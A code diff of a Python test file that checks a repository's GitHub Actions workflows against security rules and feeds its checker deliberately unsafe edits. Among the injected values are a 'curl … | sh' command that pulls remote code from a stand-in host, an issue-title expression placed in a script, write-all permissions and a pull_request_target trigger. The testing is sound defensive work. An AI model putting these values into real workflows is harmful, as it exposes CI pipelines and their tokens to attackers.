@@ -1,113 +1,124 @@
-"""The workflows on GitHub: pinned, with few rights, and deploying from main alone."""
+"""The workflows on GitHub keep every rule, and a rule that is broken anywhere is told."""
 
 import os
-import re
 
 import pytest
 import yaml
 
+from tools import workflows
 from tools.repo import ROOT
 
-FOLDER = ROOT / ".github/workflows"
-PINNED = re.compile(r"uses: [\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$")
-WORKFLOWS = {path.name: path.read_text(encoding="utf-8") for path in FOLDER.glob("*.y*ml")}
+TEXTS = workflows.texts()
+PIN = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
 
 
-def read(name):
-    # Under the rules of YAML 1.1 the key `on` is the value true.
-    return yaml.safe_load(WORKFLOWS[name])
+def damaged(name, old, new, count=1):
+    """The texts with one place of one file changed."""
+    assert old in TEXTS[name], f"{name} has changed: {old!r} is not in it any more"
+    return TEXTS | {name: TEXTS[name].replace(old, new, count)}
 
 
-def steps():
-    for name in WORKFLOWS:
-        for key, job in read(name)["jobs"].items():
-            for step in job["steps"]:
-                yield f"{name}:{key}", step
+def told(texts):
+    return "\n".join(map(str, workflows.problems(texts)))
 
 
-def test_there_is_a_workflow():
-    assert "site.yml" in WORKFLOWS
+def test_there_are_the_workflows():
+    assert set(TEXTS) == {"site.yml", "gpu.yml", "releases.yml"}
 
 
-@pytest.mark.parametrize("name", WORKFLOWS)
-def test_every_action_is_pinned_by_its_hash_and_names_its_version(name):
-    lines = [line.strip().removeprefix("- ") for line in WORKFLOWS[name].splitlines()]
-    used = [line for line in lines if line.startswith("uses:")]
-    assert used
-    assert not [line for line in used if not PINNED.match(line)]
+def test_they_keep_every_rule():
+    assert told(TEXTS) == ""
 
 
-def test_one_action_has_one_version():
-    pins = set(re.findall(r"uses: (\S+)@(\S+) # (\S+)", "\n".join(WORKFLOWS.values())))
-    assert len(pins) == len({action for action, _, _ in pins})
+@pytest.mark.parametrize("name", TEXTS)
+@pytest.mark.parametrize(
+    ("old", "new", "said"),
+    [
+        (PIN, "actions/checkout@v7", "not pinned by its hash"),
+        (PIN, PIN.partition(" #")[0], "not pinned by its hash"),
+        (PIN, PIN.replace("3d3c", "3d3d"), "has two versions"),
+        (PIN, PIN.replace("7.0.1", "7.0.0"), "has two versions"),
+        ("permissions: {}", "permissions: write-all", "all its jobs get rights"),
+        ("permissions: {}", "permissions:\n  contents: read", "all its jobs get rights"),
+        ("permissions: {}\n", "", "all its jobs get rights"),
+        ("contents: read", "contents: write", "it may write contents"),
+        ("contents: read", "contents: read\n      packages: write", "it may write packages"),
+        ("    permissions:\n      contents: read # to check out\n", "", "rights are not listed"),
+        ("timeout-minutes: ", "timeout-minutes: 1000", "it may run for"),
+        ("    timeout-minutes:", "    # timeout-minutes:", "it may run for None"),
+        ("    timeout-minutes:", "    continue-on-error: true\n    timeout-minutes:", "goes on"),
+        ("        with:", "        continue-on-error: true\n        with:", "goes on after"),
+        ("workflow_dispatch:", "workflow_dispatch:\n  pull_request_target:", "pull_request_target"),
+        ("workflow_dispatch:", "workflow_run:\n    workflows: [GPU]", "started by workflow_run"),
+        ("workflow_dispatch:", "issue_comment:", "started by issue_comment"),
+        ("workflow_dispatch:", "push:", "started by any push"),
+        ("persist-credentials: false", "persist-credentials: true", "keeps a token"),
+        ("persist-credentials: false", "fetch-depth: 1", "keeps a token"),
+        (
+            "persist-credentials: false",
+            "persist-credentials: false\n          ref: ${{ github.head_ref }}",
+            "checks out something else",
+        ),
+        ("run: ", "run: echo ${{ github.event.issue.title }} && ", "stands in a script"),
+        ("run: ", "run: curl -s example.test | sh; ", "it runs `curl"),
+        ("timeout-minutes:", "env:\n      PYTEST_ADDOPTS: -k x\n    timeout-minutes:", "bends all"),
+        ("permissions: {}", "permissions: {}\ndefaults: {run: {shell: 'true {0}'}}", "bends all"),
+        ("run: ", "shell: 'true {0}'\n        run: ", "shell bends a script"),
+    ],
+)
+def test_what_breaks_a_rule_is_told(name, old, new, said):
+    assert said in told(damaged(name, old, new))
 
 
-@pytest.mark.parametrize("name", WORKFLOWS)
-def test_no_right_is_given_to_a_whole_workflow(name):
-    assert read(name)["permissions"] == {}
+@pytest.mark.parametrize(
+    ("name", "old", "new", "said"),
+    [
+        ("site.yml", "branches: [main]", "branches: ['**']", "started by any push"),
+        (
+            "site.yml",
+            "run: make",
+            "env: {PYTEST_ADDOPTS: -k x}\n        run: make",
+            "bends a script",
+        ),
+        ("site.yml", "cache: pip\n", "cache: pipenv\n", "not by the pins"),
+        ("gpu.yml", "cache-dependency-path:", "# cache-dependency-path:", "not by the pins"),
+        (
+            "releases.yml",
+            'python-version: "3.13"',
+            'python-version: "3.13"\n          cache: pip',
+            "it fills a cache that others read",
+        ),
+        ("gpu.yml", "uses: actions/upload-artifact@", "uses: actions/cache@", "cache of its own"),
+        ("releases.yml", "      issues: write", "      actions: write", "it may write actions"),
+        ("gpu.yml", "      actions: write", "      contents: write", "it may write contents"),
+        ("site.yml", "      id-token: write", "      contents: write", "it may write contents"),
+    ],
+)
+def test_what_breaks_a_rule_in_one_place_is_told(name, old, new, said):
+    assert said in told(damaged(name, old, new))
 
 
-@pytest.mark.parametrize("name", WORKFLOWS)
-def test_jobs_write_nothing_but_the_deployment(name):
-    for key, job in read(name)["jobs"].items():
-        writes = {right for right, level in job["permissions"].items() if level != "read"}
-        assert writes == ({"pages", "id-token"} if key == "deploy" else set())
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("jobs: {", "site.yml:1: this is no YAML"),
+        ("on: push", "it has no events or no jobs"),
+        ("jobs: {}", "it has no events or no jobs"),
+        ("", "it has no events or no jobs"),
+    ],
+)
+def test_what_is_no_workflow_is_told(text, said):
+    assert said in told(TEXTS | {"site.yml": text})
 
 
-@pytest.mark.parametrize("name", WORKFLOWS)
-def test_every_job_has_an_end(name):
-    assert all(0 < job["timeout-minutes"] <= 30 for job in read(name)["jobs"].values())
-
-
-@pytest.mark.parametrize("name", WORKFLOWS)
-def test_no_workflow_runs_a_fork_with_rights(name):
-    events = set(read(name)[True])
-    assert events <= {"push", "pull_request", "workflow_dispatch", "schedule"}
-
-
-def test_check_outs_leave_no_token_behind():
-    found = [step for _, step in steps() if step.get("uses", "").startswith("actions/checkout@")]
-    assert found
-    assert all(step["with"]["persist-credentials"] is False for step in found)
-
-
-def test_site_is_deployed_from_main_alone():
-    deploying = {
-        where: step
-        for where, step in steps()
-        if step.get("uses", "").startswith("actions/deploy-pages@")
-    }
-    assert list(deploying) == ["site.yml:deploy"]
-    job = read("site.yml")["jobs"]["deploy"]
-    assert job["environment"]["name"] == "github-pages"
-    needed = {"github.ref == 'refs/heads/main'", "github.event_name != 'pull_request'"}
-    assert set(job["if"].split(" && ")) == needed
-
-
-def test_deployment_comes_after_check_tests_and_build():
-    jobs = read("site.yml")["jobs"]
-
-    def before(key):
-        needs = jobs[key].get("needs", [])
-        names = {needs} if isinstance(needs, str) else set(needs)
-        return names.union(*(before(name) for name in names)) if names else names
-
-    assert before("deploy") == {"build", "test", "systems", "check"}
-
-
-def test_no_expression_is_put_into_a_script():
-    assert not [where for where, step in steps() if "${{" in step.get("run", "")]
-
-
-def test_scripts_of_ci_are_commands_that_anybody_has():
-    known = re.compile(r"(make (check|test|serve)|\.ci/run|python -m (tools|torchwhy)\b[^;&|]*)\n?")
-    assert not [
-        step["run"] for _, step in steps() if "run" in step and not known.fullmatch(step["run"])
-    ]
+def test_a_problem_names_the_file_and_the_line_of_the_job():
+    [found] = workflows.problems(damaged("site.yml", "run: make check", "run: make checks"))[:1]
+    line = TEXTS["site.yml"].split("\n").index("  check:") + 1
+    assert (found.path, found.line) == (".github/workflows/site.yml", line)
 
 
 def test_promised_systems_and_oldest_and_newest_python_are_tried():
-    matrix = read("site.yml")["jobs"]["systems"]["strategy"]["matrix"]
+    matrix = yaml.safe_load(TEXTS["site.yml"])["jobs"]["systems"]["strategy"]["matrix"]
     assert {system.partition("-")[0] for system in matrix["system"]} == {
         "ubuntu",
         "windows",
@@ -116,14 +127,12 @@ def test_promised_systems_and_oldest_and_newest_python_are_tried():
     assert matrix["python"] == ["3.11", "3.14"]
 
 
-def test_pip_is_cached_by_the_pins():
-    found = [
-        step for _, step in steps() if step.get("uses", "").startswith("actions/setup-python@")
-    ]
-    assert found
-    for step in found:
-        assert step["with"]["cache"] == "pip"
-        assert (ROOT / step["with"]["cache-dependency-path"]).is_file()
+@pytest.mark.parametrize("name", TEXTS)
+def test_pip_is_cached_by_files_that_exist(name):
+    for job in yaml.safe_load(TEXTS[name])["jobs"].values():
+        for step in job["steps"]:
+            path = step.get("with", {}).get("cache-dependency-path")
+            assert path is None or (ROOT / path).is_file()
 
 
 def test_ci_calls_the_same_command_as_everybody():
